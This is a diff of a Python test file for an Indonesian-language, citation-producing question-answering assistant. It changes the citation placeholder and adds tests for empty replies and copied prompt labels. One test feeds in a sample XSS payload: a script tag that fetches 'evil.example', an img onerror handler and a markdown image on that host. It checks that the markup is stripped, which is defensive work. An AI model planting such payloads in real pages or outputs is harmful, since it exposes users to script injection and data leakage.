@@ -96,8 +96,8 @@ def ask(assistant: Assistant, server: ScriptedServer, script: Script | str) -> A
 
 
 def cites(phrase: str, text: str) -> Callable[[str], str]:
-    """A reply in which `N` stands for the number of the passage with this phrase."""
-    return lambda prompt: text.replace("N", str(number_of(prompt, phrase)))
+    """A reply in which `@` stands for the number of the passage with this phrase."""
+    return lambda prompt: text.replace("@", str(number_of(prompt, phrase)))
 
 
 def gave_way(answer: Answer, why: str) -> None:
@@ -113,22 +113,22 @@ def gave_way(answer: Answer, why: str) -> None:
 @pytest.mark.parametrize(
     "form",
     [
-        "{} [N].",
-        "{}. [N]",
-        "{}.[N]",
-        "{} [N]",
-        "{} [N][N].",
-        "{} [N, N].",
-        "{} 【N】.",
-        "{} [Source N].",
-        "{} [Sumber N].",
-        "{} (N).",
-        "{} [^N].",
-        "{}.`[N]`",
-        "{} [N](https://example.org/N).",
-        "**{}** [N].",
-        "- {} [N].",
-        "Menurut [N], {}.",
+        "{} [@].",
+        "{}. [@]",
+        "{}.[@]",
+        "{} [@]",
+        "{} [@][@].",
+        "{} [@, @].",
+        "{} 【@】.",
+        "{} [Source @].",
+        "{} [Sumber @].",
+        "{} (@).",
+        "{} [^@].",
+        "{}.`[@]`",
+        "{} [@](https://example.org/@).",
+        "**{}** [@].",
+        "- {} [@].",
+        "Menurut [@], {}.",
     ],
 )
 def test_every_form_of_marker_becomes_one_citation(
@@ -176,7 +176,7 @@ def test_an_uncited_sentence_gets_the_citation_that_supports_it(
 def test_a_sentence_that_cites_the_wrong_passage_gets_the_right_one(
     assistant: Assistant, server: ScriptedServer
 ) -> None:
-    answer = ask(assistant, server, Script(reply=cites("900 meter", f"{MEETING} [N].")))
+    answer = ask(assistant, server, Script(reply=cites("900 meter", f"{MEETING} [@].")))
     assert [c.file for c in answer.citations] == ["kereta.txt"]
 
 
@@ -212,7 +212,7 @@ def test_a_bibliography_of_the_models_own_is_dropped(
     assistant: Assistant, server: ScriptedServer
 ) -> None:
     text = (
-        f"{MEETING} [N].\n\nDaftar Pustaka:\n[1] Suara Arkadia, 2021. https://example.org/a\n[2] X"
+        f"{MEETING} [@].\n\nDaftar Pustaka:\n[1] Suara Arkadia, 2021. https://example.org/a\n[2] X"
     )
     answer = ask(assistant, server, Script(reply=cites("Morozov bertemu", text)))
     assert "Pustaka" not in answer.text
@@ -236,8 +236,8 @@ def test_own_knowledge_gives_way_to_the_articles(
 
 def test_html_and_script_never_reach_the_text(assistant: Assistant, server: ScriptedServer) -> None:
     text = (
-        f"<script>fetch('https://evil.example/?q=x')</script><b>{MEETING}</b> [N]. "
-        f"<img src=x onerror=alert(1)> {TRADE} [N]. ![x](https://evil.example/p.png)"
+        f"<script>fetch('https://evil.example/?q=x')</script><b>{MEETING}</b> [@]. "
+        f"<img src=x onerror=alert(1)> {TRADE} [@]. ![x](https://evil.example/p.png)"
     )
     answer = ask(assistant, server, Script(reply=cites("Morozov bertemu", text)))
     assert "<" not in answer.text
@@ -252,7 +252,7 @@ def test_rambling_is_cut_off(assistant: Assistant, server: ScriptedServer) -> No
         for i in range(400)
     )
     script = Script(
-        reply=cites("Morozov bertemu", f"{MEETING} [N]. {ramble}"), piece=40, pause=0.001
+        reply=cites("Morozov bertemu", f"{MEETING} [@]. {ramble}"), piece=40, pause=0.001
     )
     answer = ask(assistant, server, script)
     assert len(answer.sentences) <= 15
@@ -277,7 +277,7 @@ def test_a_loop_gives_way(assistant: Assistant, server: ScriptedServer, loop: st
 
 
 @pytest.mark.parametrize(
-    "reply", ["", "   \n\n ", "[1][2]", "...", "```\n```", "<br><br>", "[1].\n"]
+    "reply", ["", "   \n\n ", "[1][2]", "...", "```\n```", "<br><br>", "[1].\n", "2023: 54", "Isi:"]
 )
 def test_an_empty_reply_gives_way(assistant: Assistant, server: ScriptedServer, reply: str) -> None:
     gave_way(ask(assistant, server, reply), "nothing")
@@ -297,7 +297,7 @@ def test_another_script_gives_way(assistant: Assistant, server: ScriptedServer, 
 def test_another_language_gives_way(assistant: Assistant, server: ScriptedServer) -> None:
     english = (
         "President Lev Morozov of Arkadia met Prime Minister Ratna Dewi in Kota Samudra on "
-        "12 March 2021 [N]. The meeting lasted three hours and was about the trade in wheat [N]."
+        "12 March 2021 [@]. The meeting lasted three hours and was about the trade in wheat [@]."
     )
     answer = ask(assistant, server, Script(reply=cites("Morozov bertemu", english)))
     gave_way(answer, "")
@@ -306,21 +306,29 @@ def test_another_language_gives_way(assistant: Assistant, server: ScriptedServer
 def test_a_foreign_name_in_its_own_script_is_no_other_script(
     assistant: Assistant, server: ScriptedServer
 ) -> None:
-    text = f"{MEETING} [N]. Nama Morozov ditulis Морозов dalam bahasa Arkadia."
+    text = f"{MEETING} [@]. Nama Morozov ditulis Морозов dalam bahasa Arkadia."
     answer = ask(assistant, server, Script(reply=cites("Morozov bertemu", text)))
     assert answer.engine.answerer == "generative"
 
 
 def test_thinking_aloud_is_left_out(assistant: Assistant, server: ScriptedServer) -> None:
-    text = f"<think>Hmm, 14 Maret 1999? [7] ...</think>\n{MEETING} [N]."
+    text = f"<think>Hmm, 14 Maret 1999? [7] ...</think>\n{MEETING} [@]."
     answer = ask(assistant, server, Script(reply=cites("Morozov bertemu", text), piece=2))
     assert "1999" not in answer.text
     assert answer.unknown_markers == ()
     assert len(answer.sentences) == 1
 
 
+def test_labels_copied_from_the_prompt_are_left_out(
+    assistant: Assistant, server: ScriptedServer
+) -> None:
+    text = f"Jawaban: {MEETING} [@].\nKutipan yang mendukung jawaban itu adalah:\n- {TRADE} [@]."
+    answer = ask(assistant, server, Script(reply=cites("Morozov bertemu", text)))
+    assert [s.text for s in answer.sentences] == [f"{MEETING}.", f"{TRADE}."]
+
+
 def test_small_talk_is_left_out(assistant: Assistant, server: ScriptedServer) -> None:
-    text = f"Tentu! Berikut jawabannya:\n\n{MEETING} [N]. Semoga membantu!"
+    text = f"Tentu! Berikut jawabannya:\n\n{MEETING} [@]. Semoga membantu!"
     answer = ask(assistant, server, Script(reply=cites("Morozov bertemu", text)))
     assert [s.text for s in answer.sentences] == [f"{MEETING}."]
 
@@ -352,7 +360,7 @@ def test_a_refusal_is_not_found_and_cites_nothing(
 def test_a_refusal_beside_supported_sentences_leaves_those(
     assistant: Assistant, server: ScriptedServer
 ) -> None:
-    text = f"{MEETING} [N]. {refusal_text('id')}"
+    text = f"{MEETING} [@]. {refusal_text('id')}"
     answer = ask(assistant, server, Script(reply=cites("Morozov bertemu", text)))
     assert [s.text for s in answer.sentences] == [f"{MEETING}."]
 
@@ -384,7 +392,7 @@ def test_a_failing_service_gives_way_and_the_note_says_why(
 
 
 def test_a_busy_service_is_asked_again(assistant: Assistant, server: ScriptedServer) -> None:
-    script = Script(reply=cites("Morozov bertemu", f"{MEETING} [N]."), failures=(429, 503))
+    script = Script(reply=cites("Morozov bertemu", f"{MEETING} [@]."), failures=(429, 503))
     answer = ask(assistant, server, script)
     assert answer.engine.answerer == "generative"
     assert len(server.requests) == 3
@@ -393,7 +401,7 @@ def test_a_busy_service_is_asked_again(assistant: Assistant, server: ScriptedSer
 def test_a_server_without_streaming_gives_the_same_answer(
     assistant: Assistant, server: ScriptedServer
 ) -> None:
-    reply = cites("Morozov bertemu", f"{MEETING} [N]. {TRADE} [N].")
+    reply = cites("Morozov bertemu", f"{MEETING} [@]. {TRADE} [@].")
     streamed = ask(assistant, server, Script(reply=reply))
     whole = ask(assistant, server, Script(reply=reply, plain_json=True))
     assert (streamed.text, streamed.citations) == (whole.text, whole.citations)
@@ -403,7 +411,7 @@ def test_a_prompt_that_is_too_long_is_sent_again_shorter(
     assistant: Assistant, server: ScriptedServer
 ) -> None:
     script = Script(
-        reply=cites("Morozov bertemu", f"{MEETING} [N]."),
+        reply=cites("Morozov bertemu", f"{MEETING} [@]."),
         failures=(400,),
         error={"code": "context_length_exceeded"},
     )
@@ -417,7 +425,7 @@ def test_a_prompt_that_is_too_long_is_sent_again_shorter(
 def test_events_come_in_order_and_the_last_holds_the_whole(
     assistant: Assistant, server: ScriptedServer
 ) -> None:
-    text = f"{MEETING} [N]. {TRADE} [N]. {HARVEST} [N]."
+    text = f"{MEETING} [@]. {TRADE} [@]. {HARVEST} [@]."
     server.script = Script(reply=cites("Morozov bertemu", text), piece=4)
     events = list(assistant.stream(QUESTION))
     assert isinstance(events[0], Retrieved)
@@ -447,7 +455,7 @@ def test_closing_the_stream_stops_the_model(assistant: Assistant, server: Script
 def test_the_same_question_sends_the_same_prompt_and_gives_the_same_answer(
     assistant: Assistant, server: ScriptedServer
 ) -> None:
-    script = Script(reply=cites("Morozov bertemu", f"{MEETING} [N]. {HARVEST} [3]."))
+    script = Script(reply=cites("Morozov bertemu", f"{MEETING} [@]. {HARVEST} [3]."))
     first, second = (ask(assistant, server, script).to_dict() for _ in range(2))
     first.pop("timings_ms"), second.pop("timings_ms")
     assert first == second
@@ -464,7 +472,7 @@ def test_json_has_the_same_shape_with_and_without_a_model_and_can_be_replayed(
             return [shape(inner) for inner in value[:1]]
         return None
 
-    reply = cites("Morozov bertemu", f"{MEETING} [N]. Ia lahir pada 1950. {TRADE} [N].")
+    reply = cites("Morozov bertemu", f"{MEETING} [@]. Ia lahir pada 1950. {TRADE} [@].")
     written = json.loads(json.dumps(ask(assistant, server, Script(reply=reply)).to_dict()))
     with Assistant.open(folder, index=folder.parent / "index2") as plain:
         quoted = json.loads(json.dumps(plain.ask(QUESTION).to_dict()))
